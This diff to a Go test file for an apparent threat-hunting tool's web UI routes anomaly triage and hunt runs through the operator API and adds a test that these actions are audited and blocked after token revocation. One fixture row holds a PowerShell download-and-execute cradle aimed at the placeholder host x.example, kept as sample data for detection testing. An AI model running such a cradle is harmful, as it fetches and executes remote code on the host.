@@ -18,6 +18,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/exechunt/exechunt/orchestrator/anomalies"
+	"github.com/exechunt/exechunt/orchestrator/hunts"
 	"github.com/exechunt/exechunt/orchestrator/operatorapi"
 	"github.com/exechunt/exechunt/orchestrator/stack"
 	"github.com/exechunt/exechunt/orchestrator/store"
@@ -60,7 +62,9 @@ var scriptRow = map[string]string{
 	"decoded":     "IEX (New-Object Net.WebClient).DownloadString('https://x.example/p.ps1')",
 }
 
-func newFixture(t *testing.T, seams bool) *fixture {
+// newFixture builds the UI; services adds the hunt and anomaly routes to the
+// operator API (fakes of the services behind them).
+func newFixture(t *testing.T, services bool) *fixture {
 	t.Helper()
 	ctx := context.Background()
 	st, err := sqlite.Open(ctx, filepath.Join(t.TempDir(), "db"), sqlite.Options{})
@@ -87,18 +91,22 @@ func newFixture(t *testing.T, seams bool) *fixture {
 	f.treeQuery = f.answered(webui.TreeSQL, f.win, treeRows)
 	f.scriptQ = f.answered(fmt.Sprintf(webui.ScriptsSQL, ""), f.win, []map[string]string{scriptRow})
 
-	api, err := operatorapi.New(operatorapi.Config{Hosts: st, Tokens: st, Live: st, Poll: 20 * time.Millisecond})
+	oc := operatorapi.Config{Hosts: st, Tokens: st, Live: st, Poll: 20 * time.Millisecond, Audit: st}
+	if services {
+		f.hunts = newFakeHunts()
+		f.anomalies = newFakeAnomalies()
+		oc.Hunts = f.hunts
+	}
+	api, err := operatorapi.New(oc)
 	if err != nil {
 		t.Fatal(err)
 	}
 	mux := http.NewServeMux()
 	api.Register(mux)
-	c := webui.Config{API: mux, Insecure: true, Version: "test"}
-	if seams {
-		f.hunts = newFakeHunts()
-		f.anomalies = newFakeAnomalies()
-		c.Hunts, c.Anomalies = f.hunts, f.anomalies
+	if services {
+		api.RegisterAnomalies(mux, f.anomalies)
 	}
+	c := webui.Config{API: mux, Insecure: true, Version: "test"}
 	ui, err := webui.New(c)
 	if err != nil {
 		t.Fatal(err)
@@ -480,12 +488,12 @@ func TestCSRF(t *testing.T) {
 		t.Errorf("suppress without a reason: %d", resp2.StatusCode)
 	}
 	resp2, _ = c.do(http.MethodPost, "/ui/anomalies/7/triage", url.Values{"csrf": {c.csrf}, "action": {"suppress"}, "reason": {"IT script"}}, nil)
-	if a, _ := f.anomalies.Anomaly(context.Background(), 7); resp2.StatusCode != http.StatusSeeOther || a.State != webui.StateSuppressed || a.Reason != "IT script" || a.UpdatedBy != "admin-user" {
+	if a, _ := f.anomalies.Anomaly(context.Background(), 7); resp2.StatusCode != http.StatusSeeOther || a.State != store.TriageSuppressed || a.Reason != "IT script" || a.By != "admin-user" {
 		t.Errorf("suppress: %d %+v", resp2.StatusCode, a)
 	}
 	resp2, _ = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
-	if resp2.StatusCode != http.StatusSeeOther || f.hunts.ran != "execution by admin-user" {
-		t.Errorf("run now: %d %q", resp2.StatusCode, f.hunts.ran)
+	if resp2.StatusCode != http.StatusSeeOther || f.hunts.ranBy() != "execution by admin-user" {
+		t.Errorf("run now: %d %q", resp2.StatusCode, f.hunts.ranBy())
 	}
 }
 
@@ -619,36 +627,36 @@ func TestSchemaIndex(t *testing.T) {
 	}
 }
 
-// --- fakes of the seams ---
+// --- fakes of the services behind the operator API's hunt and anomaly routes ---
 
 type fakeAnomalies struct {
 	mu sync.Mutex
-	m  map[int64]webui.Anomaly
+	m  map[int64]anomalies.Anomaly
 }
 
 func newFakeAnomalies() *fakeAnomalies {
 	t0 := time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC)
-	mk := func(id int64, hunt, tech, sev, parent, name string, hosts, answered int) webui.Anomaly {
+	mk := func(id int64, hunt, tech, sev, parent, name string, hosts, answered int) anomalies.Anomaly {
 		sk := &stack.Stack{Query: hunt + "_office_children", Key: stack.Key(parent + "|" + name),
 			Values: map[string]string{"parent_name": parent, "name": name}, HostCount: hosts, Rows: 3,
 			FirstSeen: t0, LastSeen: t0.Add(time.Hour), MaxScore: 90, Indicators: []string{"office_child_shell"},
 			Examples: []stack.Example{{Host: "win-1", Time: t0, Row: map[string]string{"parent_name": parent, "name": name,
 				"cmdline": "WINWORD.EXE /n invoice.docm"}}}}
-		return webui.Anomaly{ID: id, Hunt: hunt, State: webui.StateOpen, Hosts: []string{"win-1"},
+		return anomalies.Anomaly{ID: id, Hunts: []string{hunt}, State: store.TriageOpen, Hosts: []string{"win-1"},
 			Anomaly: stack.Anomaly{Stack: sk, Technique: tech, Severity: sev, Prevalence: float64(hosts) / float64(answered),
 				Answered: answered, Rare: true, New: true, HighScore: true, Rank: 0.9,
 				Reasons: []string{fmt.Sprintf("rare: %d of %d hosts", hosts, answered), "new: not in the baseline", "score 90"}}}
 	}
-	return &fakeAnomalies{m: map[int64]webui.Anomaly{
+	return &fakeAnomalies{m: map[int64]anomalies.Anomaly{
 		7: mk(7, "execution", "T1059.001", "high", "winword.exe", "powershell.exe", 1, 40),
 		8: mk(8, "execution", "T1218.010", "medium", "explorer.exe", "regsvr32.exe", 2, 40),
 	}}
 }
 
-func (f *fakeAnomalies) Anomalies(_ context.Context, fl webui.AnomalyFilter) ([]webui.Anomaly, error) {
+func (f *fakeAnomalies) Anomalies(_ context.Context, fl anomalies.Filter) ([]anomalies.Anomaly, error) {
 	f.mu.Lock()
 	defer f.mu.Unlock()
-	var out []webui.Anomaly
+	var out []anomalies.Anomaly
 	for _, id := range []int64{7, 8} {
 		a := f.m[id]
 		if (fl.State == "" || a.State == fl.State) && (fl.Technique == "" || a.Technique == fl.Technique) {
@@ -658,50 +666,145 @@ func (f *fakeAnomalies) Anomalies(_ context.Context, fl webui.AnomalyFilter) ([]
 	return out, nil
 }
 
-func (f *fakeAnomalies) Anomaly(_ context.Context, id int64) (webui.Anomaly, error) {
+func (f *fakeAnomalies) Anomaly(_ context.Context, id int64) (anomalies.Anomaly, error) {
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	a, ok := f.m[id]
 	if !ok {
-		return a, errors.New("anomaly not found")
+		return a, anomalies.ErrNotFound
 	}
 	return a, nil
 }
 
-func (f *fakeAnomalies) Triage(_ context.Context, id int64, t webui.Triage) error {
+func (f *fakeAnomalies) Triage(_ context.Context, id int64, state, reason, by string) (anomalies.Anomaly, error) {
 	f.mu.Lock()
 	defer f.mu.Unlock()
-	a := f.m[id]
-	a.State = map[string]string{webui.ActionAcknowledge: webui.StateAcknowledged, webui.ActionSuppress: webui.StateSuppressed,
-		webui.ActionResolve: webui.StateResolved, webui.ActionReopen: webui.StateOpen}[t.Action]
-	a.Reason, a.UpdatedBy = t.Reason, t.By
+	a, ok := f.m[id]
+	if !ok {
+		return a, anomalies.ErrNotFound
+	}
+	a.State, a.Reason, a.By = state, reason, by
 	f.m[id] = a
-	return nil
+	return a, nil
 }
 
+func (f *fakeAnomalies) Stacks(context.Context, string) ([]anomalies.Anomaly, error) { return nil, nil }
+func (f *fakeAnomalies) Queries() []string                                           { return nil }
+func (f *fakeAnomalies) AddRule(_ context.Context, r store.SuppressionRule) (store.SuppressionRule, error) {
+	return r, nil
+}
+func (f *fakeAnomalies) Rules(context.Context) ([]store.SuppressionRule, error) { return nil, nil }
+func (f *fakeAnomalies) DeleteRule(context.Context, int64) error                { return nil }
+
 type fakeHunts struct {
+	mu   sync.Mutex
 	ran  string
-	runs []webui.Run
+	runs []store.HuntRun
 }
 
 func newFakeHunts() *fakeHunts {
 	t0 := time.Date(2026, 11, 1, 8, 0, 0, 0, time.UTC)
-	return &fakeHunts{runs: []webui.Run{{ID: 1, Hunt: "execution", Trigger: "schedule", State: "done", StartedAt: t0,
-		EndedAt: t0.Add(3 * time.Second), Targeted: 4, Responded: 3, Offline: 1, Rows: 12}}}
+	return &fakeHunts{runs: []store.HuntRun{{ID: 1, Hunt: "execution", Trigger: "schedule", State: "done", StartedAt: t0,
+		EndedAt: t0.Add(3 * time.Second), HostsTargeted: 4, HostsResponded: 3, HostsOffline: 1, Rows: 12}}}
 }
 
-func (f *fakeHunts) Hunts(context.Context) ([]webui.Hunt, error) {
+func (f *fakeHunts) info() hunts.Info {
 	t0 := time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC)
 	r := f.runs[0]
-	return []webui.Hunt{{Name: "execution", Description: "Execution basics", Pack: "execution-basics", Schedule: "0 */2 * * *",
-		Mode: "dispatch", Targets: "all hosts", Enabled: true, NextRuns: []time.Time{t0, t0.Add(2 * time.Hour)}, LastRun: &r}}, nil
+	return hunts.Info{Hunt: store.Hunt{Name: "execution", Description: "Execution basics", Pack: "execution-basics",
+		Schedule: "0 */2 * * *", Mode: "dispatch", Enabled: true}, ScheduleWords: "every 2 hours, UTC",
+		NextRuns: []time.Time{t0, t0.Add(2 * time.Hour)}, LastRun: &r}
 }
 
-func (f *fakeHunts) Runs(_ context.Context, hunt string, limit int) ([]webui.Run, error) {
-	return f.runs, nil
+func (f *fakeHunts) List(context.Context, int) ([]hunts.Info, error) {
+	return []hunts.Info{f.info()}, nil
+}
+func (f *fakeHunts) Get(_ context.Context, name string, _ int) (hunts.Info, error) {
+	if name != "execution" {
+		return hunts.Info{}, store.ErrNotFound
+	}
+	return f.info(), nil
+}
+func (f *fakeHunts) Create(context.Context, store.Hunt) (store.Hunt, error) {
+	return store.Hunt{}, errors.New("not in this fake")
+}
+func (f *fakeHunts) Update(context.Context, string, store.Hunt) (store.Hunt, error) {
+	return store.Hunt{}, errors.New("not in this fake")
+}
+func (f *fakeHunts) Delete(context.Context, string) error { return errors.New("not in this fake") }
+func (f *fakeHunts) RunNow(_ context.Context, name, by string) (store.HuntRun, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.ran = name + " by " + by
+	return store.HuntRun{ID: 2, Hunt: name, Trigger: "manual", By: by, State: "running"}, nil
+}
+func (f *fakeHunts) Runs(context.Context, string, int) ([]store.HuntRun, error) { return f.runs, nil }
+func (f *fakeHunts) RunDetail(context.Context, int64) (hunts.RunDetail, error) {
+	return hunts.RunDetail{}, store.ErrNotFound
+}
+func (f *fakeHunts) RunRows(context.Context, int64, store.RunRowFilter) ([]store.HuntRow, error) {
+	return nil, nil
+}
+func (f *fakeHunts) PushResults(context.Context, string, string, time.Time, int) ([]hunts.PushRow, error) {
+	return nil, nil
 }
 
-func (f *fakeHunts) RunNow(_ context.Context, hunt, by string) (webui.Run, error) {
-	f.ran = hunt + " by " + by
-	return webui.Run{ID: 2, Hunt: hunt}, nil
+func (f *fakeHunts) ranBy() string {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	return f.ran
+}
+
+// TestUIActionsGoThroughTheAPI: triage and "run now" from the UI are the operator
+// API's actions: audited with their actor, and refused once the session's token is
+// revoked (the UI called the services directly: a revoked hunter's session still
+// suppressed anomalies and ran hunts, and nothing was audited).
+func TestUIActionsGoThroughTheAPI(t *testing.T) {
+	f := newFixture(t, true)
+	ctx := context.Background()
+	const hunterToken = "hunter-token-for-tests"
+	tok, err := f.st.CreateToken(ctx, store.Token{Name: "hunter-user", Role: operatorapi.RoleHunter,
+		Hash: operatorapi.HashToken(hunterToken), CreatedAt: f.now})
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := f.client()
+	c.login(hunterToken)
+	resp, body := c.do(http.MethodPost, "/ui/anomalies/7/triage", url.Values{"csrf": {c.csrf}, "action": {"suppress"}, "reason": {"backup job"}}, nil)
+	if resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("triage: %d %s", resp.StatusCode, body)
+	}
+	resp, body = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
+	if resp.StatusCode != http.StatusSeeOther {
+		t.Fatalf("run now: %d %s", resp.StatusCode, body)
+	}
+	for _, action := range []string{"anomaly.triage", "hunt.run"} {
+		entries, err := f.st.AuditLog(ctx, store.AuditFilter{Action: action})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(entries) != 1 || entries[0].Actor != "hunter-user" {
+			t.Errorf("audit log of %s from the UI: %+v, want one entry by hunter-user", action, entries)
+		}
+	}
+
+	if err := f.st.RevokeToken(ctx, tok.ID, f.now); err != nil {
+		t.Fatal(err)
+	}
+	f.hunts.mu.Lock()
+	f.hunts.ran = ""
+	f.hunts.mu.Unlock()
+	resp, _ = c.do(http.MethodPost, "/ui/anomalies/8/triage", url.Values{"csrf": {c.csrf}, "action": {"resolve"}}, nil)
+	if a, _ := f.anomalies.Anomaly(ctx, 8); a.State != store.TriageOpen || resp.StatusCode == http.StatusSeeOther && strings.HasPrefix(resp.Header.Get("Location"), "/ui/anomalies/") {
+		t.Errorf("a revoked session triaged anomaly 8: %d %s, state %s", resp.StatusCode, resp.Header.Get("Location"), a.State)
+	}
+	resp, _ = c.do(http.MethodPost, "/ui/hunts/execution/run", url.Values{"csrf": {c.csrf}}, nil)
+	if ran := f.hunts.ranBy(); ran != "" {
+		t.Errorf("a revoked session ran a hunt (%d): %s", resp.StatusCode, ran)
+	}
+	for _, p := range []string{"/ui/anomalies", "/ui/hunts"} {
+		if resp, body := c.get(p); resp.StatusCode == http.StatusOK && strings.Contains(body, "execution") {
+			t.Errorf("a revoked session still reads %s", p)
+		}
+	}
 }
